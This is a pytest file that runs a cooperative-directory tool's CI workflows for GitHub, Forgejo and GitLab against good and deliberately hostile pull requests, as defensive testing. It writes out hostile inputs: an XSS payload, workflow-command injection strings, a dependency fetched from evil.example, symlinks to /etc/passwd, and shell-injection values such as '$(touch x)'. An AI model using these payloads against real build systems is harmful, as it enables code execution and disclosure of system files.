"""The steps of the workflows, run as a forge runs them, for a commons as `auzolan init` makes it: for a good request, for a
hostile one, and when something is merged."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path
from typing import Any

import pytest
from tests.intake import workflows as w
from tests.running import auzolan, write

from auzolan.intake.forges import forge_files

FILES = {file.path: w.document(file.data.decode()) for file in forge_files() if file.path.endswith(".yml")}
BAKERY = """name: {name}
written_in: en
summary: {summary}
places: [{{country: ES, locality: Lleida}}]
record:
  sources:
    page: {{title: About us, url: "https://bakery.example/about"}}
"""
GOOD = BAKERY.format(name="Our Bakery", summary="A bakery that belongs to its bakers.")
TRICK = '"@all <img src=x onerror=alert(1)> ::set-env name=A::b %0A::error::boom ![i](https://evil.example/i.png) `x`"'


@pytest.fixture(scope="module")
def commons(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("commons")
    assert auzolan("init", "ours", "--languages", "en,ca", cwd=folder).returncode == 0
    return folder / "ours"


@pytest.fixture
def forge(commons: Path, tmp_path: Path) -> w.Forge:
    return w.begun(commons, tmp_path)


def request(forge: w.Forge, number: int, head: str) -> dict[str, str]:
    """What a forge knows of a request."""
    return {
        "github.event.pull_request.base.sha": w.git(forge.bare, "rev-parse", "main"),
        "github.event.pull_request.head.sha": head,
        "github.event.pull_request.number": str(number),
    }


def checked(forge: w.Forge, head: str, place: str = ".github") -> w.Ran:
    job = FILES[f"{place}/workflows/check.yml"]["jobs"]["check"]
    clone = forge.checked_out(forge.work.parent / f"runner{place}", 7)
    return w.run_job(job, clone, forge.work.parent / "run" / "temp", request(forge, 7, head))


def test_a_good_request_is_checked_told_and_shown(forge: w.Forge) -> None:
    head = forge.propose(
        7, {"directory/cooperatives/our-bakery.yaml": GOOD, "directory/cooperatives/example.yaml": None}
    )
    ran = checked(forge, head)
    assert ran.ok, ran.said
    assert (ran.temp / "report/number").read_text() == "7\n"
    report = (ran.temp / "report/report.md").read_text()
    assert "- Cooperative: `Our Bakery`" in report and report in ran.summary
    assert "`cooperative/example`" in report
    assert "2 files differ" in ran.said["Check"]
    assert "Our Bakery" in (ran.temp / "preview/cooperatives/our-bakery.html").read_text()
    assert not (ran.temp / "preview/cooperatives/example.html").exists()
    assert "install --quiet -r requirements.txt" in (ran.temp.parent / "pip.log").read_text()


def test_what_is_wrong_is_told_on_its_line_and_the_report_is_there_all_the_same(forge: w.Forge) -> None:
    head = forge.propose(7, {"directory/cooperatives/our-bakery.yaml": GOOD + "sectors: [no-such-word]\n"})
    ran = checked(forge, head)
    assert ran.failed == ["Check"]
    assert re.search(r"(?m)^::error file=directory/cooperatives/our-bakery\.yaml,line=8,", ran.said["Check"])
    assert "error V001" in (ran.temp / "report/report.md").read_text() and not (ran.temp / "preview").exists()


def test_a_request_that_others_overtook_is_not_told_of_what_they_merged(forge: w.Forge) -> None:
    head = forge.propose(7, {"directory/cooperatives/our-bakery.yaml": GOOD})
    (forge.work / "directory/cooperatives/mill.yaml").write_text(
        GOOD.replace("Bakery", "Mill").replace("bakery", "mill")
    )
    w.git(forge.work, "add", "-A")
    w.git(forge.work, "commit", "-q", "-m", "Another")
    w.git(forge.work, "push", "-q", str(forge.bare), "main")
    report = checked(forge, head).temp / "report/report.md"
    assert "Our Bakery" in report.read_text() and "Mill" not in report.read_text()


def hostile(forge: w.Forge, ran: Path) -> str:
    """A request that tries what a request can."""
    acts = f"open({str(ran)!r}, 'w').close()\n"
    return forge.propose(
        7,
        {
            "pelicanconf.py": acts,
            "publishconf.py": acts,
            "auzolan.py": acts,
            "requirements.txt": "evil @ https://evil.example/evil.zip\n",
            "content/articles/.gitattributes": "* filter=evil\n",
            "directory/cooperatives/trick.yaml": BAKERY.format(name=TRICK, summary=TRICK),
            "directory/cooperatives/wrong.yaml": BAKERY.format(name=TRICK, summary=TRICK) + f"sectors: [{TRICK}]\n",
            "directory/cooperatives/line\n::error::end.yaml": GOOD,
            ".github/workflows/check\n::error::x.yml": "on: push\n",
        },
        {"directory/cooperatives/link.yaml": "/etc/passwd", "content/articles/all": "/etc"},
    )


def test_on_forgejo_report_and_preview_are_left_to_be_kept(forge: w.Forge) -> None:
    ran = checked(forge, forge.propose(7, {"directory/cooperatives/our-bakery.yaml": GOOD}), ".forgejo")
    assert ran.ok, ran.said
    left = forge.work.parent / "runner.forgejo" / "report"
    assert "Our Bakery" in (left / "report.html").read_text() and (left / "preview/index.html").is_file()
    assert "- Cooperative: `Our Bakery`" in ran.said["Say what it changes"]


@pytest.mark.parametrize("place", [".github", ".forgejo"])
def test_a_hostile_request_gets_nothing_done(forge: w.Forge, tmp_path: Path, place: str) -> None:
    mark = tmp_path / "it-ran"
    ran = checked(forge, hostile(forge, mark), place)
    assert "Check" in ran.failed and not mark.exists()
    everything = "\n".join(ran.said.values())
    assert "root:" not in everything and "root:" not in ran.summary
    told = [line for line in everything.splitlines() if line.startswith("::") and not re.match(r"::(?:error|warning) file=|::stop-commands::|::[0-9a-f]{32}::$", line)]  # fmt: skip
    assert told == []
    assert "evil.example/evil.zip" not in (ran.temp.parent / "pip.log").read_text()
    if place == ".github":
        report = (ran.temp / "report/report.md").read_text()
        assert "### Other files (5)" in report and "`pelicanconf.py`" in report and len(report.encode()) <= 60_000
        # The table in the summary is escaped otherwise; the report in it is the report.
        assert report in ran.summary and not re.search(r"(?m)^::", ran.summary)


GH = r"""
printf '%s\n' "$*" >> "$GH_LOG"
case "$*" in
  *"/pulls/"*) echo "$GH_HEAD" ;;
  *"--paginate"*) printf '%s' "$GH_BEFORE" ;;
  *) file="${*: -1}"; cp "${file#body=@}" "$GH_LOG.body" ;;
esac
"""


def commented(folder: Path, report: str | None, number: str = "7", head: str = "c0ffee", before: str = "") -> Any:
    """Runs the job that comments on a report that was left; gives how it ran, what it asked of the forge, and the comment."""
    temp = folder / "run" / "temp"
    (temp / "report").mkdir(parents=True)
    (temp / "report/number").write_text(number)
    if report is None:
        (temp / "report/report.md").symlink_to("/etc/passwd")
    else:
        (temp / "report/report.md").write_text(report, "utf-8")
    job = FILES[".github/workflows/comment.yml"]["jobs"]["comment"]
    known = {"github.token": "token", "github.repository": "us/ours", "github.event.workflow_run.head_sha": "c0ffee"}
    log = folder / "gh.log"
    shim = f"export GH_LOG={log} GH_HEAD={head} GH_BEFORE={before}\n{GH}"
    ran = w.run_job(job, folder, temp, known, {"gh": shim})
    body = Path(f"{log}.body")
    return ran, log.read_text() if log.exists() else "", body.read_text("utf-8") if body.exists() else ""


def test_the_report_of_a_request_becomes_a_comment(forge: w.Forge, tmp_path: Path) -> None:
    head = forge.propose(7, {"directory/cooperatives/our-bakery.yaml": BAKERY.format(name=TRICK, summary=TRICK)})
    report = (checked(forge, head).temp / "report/report.md").read_text()
    ran, asked, body = commented(tmp_path / "second", report)
    assert ran.ok and body == f"<!-- auzolan -->\n{report}" and "```" not in body.split("\n")[1]
    assert asked.splitlines()[-1].startswith("api --silent --method POST repos/us/ours/issues/7/comments")


def test_the_comment_there_was_is_brought_up_to_date(tmp_path: Path) -> None:
    ran, asked, body = commented(tmp_path, "## What this changes\n\nNothing differs.\n", before="$'4242\\n4243\\n'")
    assert ran.ok and "--method PATCH repos/us/ours/issues/comments/4242" in asked and "Nothing differs." in body


@pytest.mark.parametrize("number", ["", "0", "7; touch x", "$(touch x)", "../7", "-1", "7\n8", "77777777777777"])
def test_a_number_that_is_none_is_refused(tmp_path: Path, number: str) -> None:
    ran, asked, body = commented(tmp_path, "Words.\n", number=number)
    assert ran.failed == ["Comment"] and (asked, body) == ("", "") and not (tmp_path / "x").exists()


def test_a_report_about_another_request_is_refused(tmp_path: Path) -> None:
    ran, asked, body = commented(tmp_path, "Words.\n", head="another")
    assert ran.failed == ["Comment"] and body == "" and len(asked.splitlines()) == 1


def test_a_link_in_place_of_the_report_is_not_followed(tmp_path: Path) -> None:
    ran, _, body = commented(tmp_path, None)
    assert not ran.ok and body == "" and not (ran.temp / "comment.md").exists()


ACTING = (
    "@all", "\\@all", "&#64;all", "<b>", "![i](https://evil.example/i.png)", "[a](https://evil.example)", "https://evil.example",
    "www.evil.example", "#1", "[a]: https://evil.example", "[a]: x", "[a\\\\]: x", "    code", "`` ` @all", "\\` @all `x`", "`a\n@all`", "> quote",
    "/close", "a@evil.example", "~~~\nx", "`" * 500 + " @all", "``` @all\n```", "x" * 30_000,
    "`a\r\r@all`", "`a\r\r@all\r\r`", "a\r/close", "`@all | b`\n:-\n", "a | b\n-|-\n`x | @all` | c", "- a | b\n  --- | ---\n  `x | @all`",
    "$`x`$", "$x$", "GH-1",
)  # fmt: skip


@pytest.mark.parametrize("text", ACTING)
def test_a_report_that_could_act_is_shown_as_bare_text(tmp_path: Path, text: str) -> None:
    """Whoever changes the workflow in a request can leave any report; so the comment shows it, and it does nothing."""
    from markdown_it import MarkdownIt

    ran, _, body = commented(tmp_path, f"## What this changes\n\n{text}\n")
    assert ran.ok
    kinds = [token.type for token in MarkdownIt("commonmark").parse(body)]
    assert kinds == ["html_block", "fence"] and "\r" not in body


def test_a_comment_is_never_too_long(tmp_path: Path) -> None:
    ran, _, body = commented(tmp_path, "@é" * 90_000)
    assert ran.ok and len(body) <= 65_000


def test_what_is_merged_is_built_for_its_address(forge: w.Forge, tmp_path: Path) -> None:
    clone = forge.checked_out(tmp_path / "runner")
    job = FILES[".github/workflows/publish.yml"]["jobs"]["build"]
    ran = w.run_job(job, clone, tmp_path / "run/temp", {"steps.pages.outputs.base_url": "https://us.example/ours"})
    assert ran.ok, ran.said
    assert "https://us.example/ours/" in (clone / "public/sitemap.xml").read_text()


def test_on_forgejo_it_is_put_on_a_branch_of_its_own(forge: w.Forge, tmp_path: Path) -> None:
    job = FILES[".forgejo/workflows/publish.yml"]["jobs"]["publish"]
    known = {
        "vars.SITEURL": "",
        "github.token": "t0ken",
        "github.server_url": tmp_path.as_uri(),
        "github.repository": "forge",
    }
    for number in range(2):
        clone = forge.checked_out(tmp_path / f"runner-{number}")
        ran = w.run_job(job, clone, tmp_path / "run/temp", known)
        assert ran.ok, ran.said
        assert "t0ken" not in "".join(ran.said.values())
    names = w.git(forge.bare, "ls-tree", "-r", "--name-only", "pages").splitlines()
    assert "index.html" in names and "pelicanconf.py" not in names
    assert w.git(forge.bare, "rev-list", "--count", "pages") == "1"


OLD, DEAD = "What has grown old", "Which links are dead"


@pytest.mark.parametrize("place", [".github", ".forgejo"])
@pytest.mark.parametrize(
    ("record", "link", "failed"),
    [
        ('  review_by: "2020-05-01"\n', "https://bakery.example/", [OLD]),
        ("", "http://127.0.0.1:9/", [DEAD]),
        ('  review_by: "2020-05-01"\n', "http://127.0.0.1:9/", [OLD, DEAD]),
        ('  review_by: "2099-05-01"\n', "https://bakery.example/", []),
    ],
)
def test_what_grew_old_and_what_is_dead_is_told_and_makes_the_run_fail(
    place: str, record: str, link: str, failed: list[str], tmp_path: Path
) -> None:
    # Nothing goes over the network: other addresses are excepted, and one of this machine is never asked.
    site = tmp_path / "commons"
    write(
        site,
        {
            "pelicanconf.py": "import auzolan\nSITENAME = 'x'\nDEFAULT_LANG = 'en'\nPLUGINS = auzolan.PLUGINS\n",
            "publishconf.py": "from pelicanconf import *\n",
            "requirements.txt": "auzolan\n",
            "links.yaml": 'exceptions:\n  - {url: "https://bakery.example/*", why: There is no network here.}\n',
            "directory/cooperatives/bakery.yaml": f"{GOOD}{record}website: {link}\n",
        },
    )
    job = FILES[f"{place}/workflows/watch.yml"]["jobs"]["watch"]
    ran = w.run_job(job, site, tmp_path / "run" / "temp", {})
    assert ran.failed == failed, ran.said
    told = ran.summary or "".join(ran.said.values())
    assert ("The date to look again has passed" in told) == (OLD in failed) and ("U005" in told) == (DEAD in failed)
    assert "directory" in told or not failed


def gitlab(name: str, clone: Path, temp: Path, **known: str) -> Any:
    """Runs a job of GitLab's: its lines are one script."""
    path = w.programs(temp / "programs", {"python": w.INSTALLED})
    added = {
        "PATH": os.pathsep.join([str(path), str(w.REAL_PYTHON), os.environ["PATH"]]),
        "PIP_LOG": str(temp / "pip.log"),
    }
    return w.shell("\n".join(FILES[".gitlab-ci.yml"][name]["script"]), clone, {**added, **known})


def test_on_gitlab(forge: w.Forge, tmp_path: Path) -> None:
    head = forge.propose(7, {"directory/cooperatives/our-bakery.yaml": GOOD + "sectors: [no-such-word]\n"})
    clone = forge.checked_out(tmp_path / "runner", 7)
    known = {
        "CI_MERGE_REQUEST_PROJECT_URL": str(forge.bare).removesuffix(".git"),
        "CI_MERGE_REQUEST_TARGET_BRANCH_NAME": "main", "CI_COMMIT_SHA": head,
    }  # fmt: skip
    done = gitlab("check", clone, tmp_path, **known)
    assert done.returncode == 1, done.stderr
    assert [one["check_name"] for one in json.loads((clone / "codequality.json").read_text())] == ["V001"]
    assert "Our Bakery" in (clone / "report.html").read_text() and not (clone / "preview").exists()
    w.git(clone, "checkout", "-q", "-f", "main")
    done = gitlab("pages", clone, tmp_path, CI_PAGES_URL="https://us.example/ours")
    assert done.returncode == 0 and "https://us.example/ours/" in (clone / "public/sitemap.xml").read_text()


def test_a_hostile_request_on_gitlab(forge: w.Forge, tmp_path: Path) -> None:
    mark = tmp_path / "it-ran"
    head = hostile(forge, mark)
    clone = forge.checked_out(tmp_path / "runner", 7)
    done = gitlab("check", clone, tmp_path, CI_MERGE_REQUEST_PROJECT_URL=str(forge.bare).removesuffix(".git"),
                  CI_MERGE_REQUEST_TARGET_BRANCH_NAME="main", CI_COMMIT_SHA=head)  # fmt: skip
    assert done.returncode == 1 and not mark.exists()
    assert "<img" not in (clone / "report.html").read_text() and "root:" not in done.stdout
